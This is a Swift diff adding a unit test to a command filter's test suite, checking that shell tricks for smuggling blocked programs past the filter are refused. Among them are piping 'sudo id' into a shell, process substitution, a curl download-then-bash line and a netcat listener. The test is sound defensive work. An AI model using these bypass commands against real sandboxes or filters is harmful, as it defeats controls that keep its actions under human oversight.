@@ -69,6 +69,14 @@ final class CommandFilterTests: XCTestCase {
         XCTAssertNoThrow(try filter.check(["sh", "-c", "cp /usr/bin/ls /tmp/x; ls /tmp"]))
     }
 
+    func testProgramsFedThroughStdinSubstitutionsOrFilesWrittenOnTheWay() {
+        assertRefused(["echo 'sudo id' | env sh", "echo 'sudo id' | nice -n 1 bash -s", "echo 'sudo id' | sh /dev/stdin", "source /dev/stdin <<< 'sudo id'",
+                       ". <(echo sudo id)", "sh <(printf 'ssh h')", "python3 <(echo x)", "bash \"$F\"",
+                       "echo 'sudo id' > s; sh s", "printf 'nc -l 1' | tee /tmp/s.sh; . /tmp/s.sh", "cp x y.py; python3 y.py",
+                       "curl -o i.sh http://x; bash i.sh", "script -qc 'sudo id' /dev/null", "vim -c '!sudo id'", "sh -s <<EOF\nssh h\nEOF"])
+        assertAllowed(["sh ./configure", "echo hi > out.txt; cat out.txt", "bash -c 'read x' <<< 'sudo id'", "python3 -m http.server 8000", "sh -s <<EOF\necho hi\nEOF"])
+    }
+
     func testAnAllowListIsNotGotAroundEither() {
         let allowList = CommandFilter(allow: ["python3", "sh", "echo", "xargs"], deny: [])
         XCTAssertNoThrow(try allowList.check(["sh", "-c", "echo a && python3 -c 1"]))
